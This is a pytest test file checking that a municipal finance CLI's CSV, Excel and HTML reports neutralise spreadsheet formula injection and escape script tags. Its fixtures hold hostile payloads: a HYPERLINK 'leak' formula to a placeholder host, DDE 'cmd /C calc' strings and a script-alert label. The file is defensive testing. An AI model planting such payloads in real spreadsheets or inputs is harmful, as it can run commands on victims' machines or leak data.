"""Outputs are safe to open: names and labels that look like spreadsheet formulas (from the data and from the rule
files) stay text in every workbook and every CSV; the HTML report escapes them."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest

import cli
from engine.data import sample_paths
from engine.render import needs_neutralising, neutralise, neutralise_column, restore, to_csv
from engine.versions import default_rules_dir

# Payloads of the spreadsheet-injection guidance: a formula, a DDE call, a formula after + - @, a tab and a CR in front.
NAMES = {
    "千代田区": '=HYPERLINK("http://example.invalid/?leak","click")',
    "中央区": "@SUM(1+1)*cmd|' /C calc'!A0",
    "港区": "-2+3+cmd|' /C calc'!A0",
    "新宿区": "+1+1",
    "文京区": "\t=1+1",
    "台東区": "'=quoted",
}
SCENARIOS = {'=HYPERLINK("http://example.invalid","s")', "'=quoted"}  # names of sweep scenarios (s.yaml)
LABELS = {  # rule-file text -> the hostile text it becomes (「…」 strings may hold double quotes)
    '"目標収納率"': '「=HYPERLINK("http://example.invalid","target")」',
    '"納付金（合計）"': '"@SUM(levy)"',
    '"85%未満"': '"-1+1"',
    '"no plan"': '"=1+2"',
    '"経過措置額"': '"<script>alert(1)</script>=1"',
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    """The bundled data with six municipalities renamed, and the shipped rules with labels and a text value replaced."""
    d = tmp_path_factory.mktemp("hostile")
    m, p = sample_paths()
    lines = m.read_text(encoding="utf-8-sig").splitlines()
    head = [x for x in lines if x.startswith("#")]
    rows = list(csv.reader(x for x in lines if not x.startswith("#")))
    for r in rows[1:]:
        r[2] = NAMES.get(r[2], r[2])
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    (d / "m.csv").write_text("\n".join(head) + "\n" + buf.getvalue(), encoding="utf-8")
    (d / "p.csv").write_bytes(p.read_bytes())
    (d / "rules").mkdir()
    for name in ("R3.rules", "R6.rules"):
        text = (default_rules_dir() / name).read_text(encoding="utf-8")
        for old, new in LABELS.items():
            text = text.replace(old, new)
        (d / "rules" / name).write_text(text, encoding="utf-8")
    (d / "s.yaml").write_text(
        "scenarios:\n"
        """  - name: '=HYPERLINK("http://example.invalid","s")'\n    set: {alpha.R7: 0.70}\n"""
        """  - name: "'=quoted"\n    set: {alpha.R7: 0.71}\n""",
        encoding="utf-8",
    )
    return d


def run(d: Path, capsys, *argv: str) -> bytes | str:
    out = d / "out.bin"
    if out.exists():
        out.unlink()
    argv = tuple(a.replace("{d}", str(d)) for a in argv)
    common = ["--rules", str(d / "rules"), "--data", str(d / "m.csv"), "--prefecture-data", str(d / "p.csv")]
    code = cli.main([argv[0], *argv[1:], *common, "--out", str(out)])
    err = capsys.readouterr().err
    assert code == 0, err
    return out.read_bytes()


CSV_COMMANDS = [
    ("eval", ["eval", "--period", "R6-R7", "--format", "csv"]),
    ("eval, Japanese headers", ["eval", "--period", "R6-R7", "--format", "csv", "--headers", "ja"]),
    ("eval --summary", ["eval", "--period", "R6-R7", "--format", "csv", "--summary"]),
    ("diff", ["diff", "R3", "R6", "--period", "R6-R7", "--format", "csv", "--all"]),
    ("diff --summary", ["diff", "R3", "R6", "--period", "R6-R7", "--format", "csv", "--summary"]),
    ("diff --rules-only", ["diff", "R3", "R6", "--period", "R6-R7", "--format", "csv", "--rules-only"]),
    ("sweep", ["sweep", "--version", "R6", "--period", "R6-R7", "--scenarios", "{d}/s.yaml", "--format", "csv", "--jobs", "1"]),
]


@pytest.mark.parametrize("argv", [c[1] for c in CSV_COMMANDS], ids=[c[0] for c in CSV_COMMANDS])
def test_csv_outputs_carry_no_live_formula(hostile, capsys, argv):
    """Every cell of every CSV output: a spreadsheet would read none as a formula (a number such as -12.5 may start with
    -); every hostile name and label that reaches the file is there, neutralised, and restore() gives it back."""
    text = run(hostile, capsys, *argv).decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not re.fullmatch(r"[+-][\d.,]+(?:e[+-]?\d+)?%?", c)]
    assert live == []
    restored = {restore(c) for c in cells}
    payloads = set(NAMES.values()) | {re.sub(r'^["「](.*)["」]$', r"\1", v) for v in LABELS.values()} | SCENARIOS
    assert restored & payloads, "no hostile text reached this output: the test would prove nothing"
    for c in cells:
        if restore(c) in payloads:
            assert c == neutralise(restore(c)) and c.startswith("'") == needs_neutralising(restore(c))


XLSX_COMMANDS = [
    ("eval", ["eval", "--period", "R6-R7", "--format", "xlsx"]),
    ("diff", ["diff", "R3", "R6", "--period", "R6-R7", "--format", "xlsx", "--all"]),
    ("diff --rules-only", ["diff", "R3", "R6", "--period", "R6-R7", "--format", "xlsx", "--rules-only"]),
    ("report", ["report", "--version", "R6", "--base", "R3", "--period", "R6-R7", "--format", "xlsx"]),
]


@pytest.mark.parametrize("argv", [c[1] for c in XLSX_COMMANDS], ids=[c[0] for c in XLSX_COMMANDS])
def test_workbooks_have_no_formula_cells(hostile, capsys, argv):
    """No sheet of any workbook has a formula cell (<f>): the hostile names and labels are string cells holding the
    text exactly as written (no quote added: a workbook cell has a type)."""
    data = run(hostile, capsys, *argv)
    archive = zipfile.ZipFile(io.BytesIO(data))
    sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert sheets
    assert [n for n in sheets if b"<f>" in archive.read(n) or b"<f " in archive.read(n)] == []
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(data))
    texts = {c.value for ws in wb for row in ws.iter_rows() for c in row if c.data_type == "s"}
    assert {c.data_type for ws in wb for row in ws.iter_rows() for c in row} <= {"s", "n", "b"}
    payloads = set(NAMES.values()) | {re.sub(r'^["「](.*)["」]$', r"\1", v) for v in LABELS.values()}
    assert texts & payloads


def test_the_html_report_escapes_names_and_labels(hostile, capsys):
    """The report page shows the label '<script>…' as text: escaped, never a live element."""
    html = run(hostile, capsys, "report", "--version", "R6", "--base", "R3", "--period", "R6-R7").decode("utf-8")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;=1" in html


@pytest.mark.parametrize(
    "text, safe",
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'x", "''x"),
        ("-", "'-"),
        ("--5", "'--5"),
        ("-12", "-12"),
        ("+0.30", "+0.30"),
        ("-1,234.5", "-1,234.5"),
        ("-.5", "-.5"),
        ("-1e5", "-1e5"),
        ("-3%", "-3%"),
        ("千代田区", "千代田区"),
        ("", ""),
        ("12", "12"),
        ("a=b", "a=b"),
        ("−2", "−2"),
    ],
)
def test_neutralise(text, safe):
    """The cells neutralised (OWASP: = + - @ tab CR in front; and a quote, so that the rule reverses) and those left
    alone: numbers, including signed ones, and text that starts otherwise. restore() undoes neutralise()."""
    assert neutralise(text) == safe
    assert needs_neutralising(text) == (safe != text)
    assert restore(neutralise(text)) == text


def test_neutralise_column_and_to_csv():
    """neutralise_column returns the very list when nothing needs it (cheap for number columns) and leaves non-text
    cells alone; to_csv neutralises the header and every row."""
    column = ["1", "-2", None, 3]
    assert neutralise_column(column) is column
    assert neutralise_column(["=a", None, 4, "b"]) == ["'=a", None, 4, "b"]
    assert to_csv(["=h", "b"], [["@x", "-1"]]) == "\ufeff'=h,b\r\n'@x,-1\r\n"


@pytest.mark.parametrize("argv", [c[1] for c in CSV_COMMANDS[:2]] + [CSV_COMMANDS[3][1]], ids=["eval", "eval, Japanese headers", "diff"])
def test_the_columnar_csv_writers_neutralise_as_to_csv_does(hostile, capsys, monkeypatch, argv):
    """Large outputs are written from whole columns (Arrow); forced onto that path, the bundled data with hostile names
    and labels gives the same bytes as the cell-by-cell writer (render.to_csv)."""
    from engine import diff, render

    by_cell = run(hostile, capsys, *argv)
    monkeypatch.setattr(render, "ARROW_MIN_CELLS", 0)
    monkeypatch.setattr(diff.outcome, "ARROW_MIN_CELLS", 0)
    by_column = run(hostile, capsys, *argv)
    assert by_column == by_cell
    assert "'=HYPERLINK" in by_column.decode("utf-8-sig")


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "\tx",
        "\rx",
        "'x",
        "-",
        "--5",
        "-12",
        "+0.30",
        "-1,234.5",
        "-.5",
        "-1e5",
        "-3%",
        "千代田区",
        "",
        "12",
        "a=b",
        "−2",
        "-１２",
        "+",
        "-1.2.3",
        "-1,23",
    ],
)
def test_the_columnar_neutralise_is_neutralise(text):
    """engine/columnar/text.neutral (RE2 over a whole column) marks exactly the cells cells.neutralise marks."""
    import pyarrow as pa

    from engine.columnar.text import neutral

    assert neutral(pa.array([text, None], type=pa.string())).to_pylist() == [neutralise(text), None]
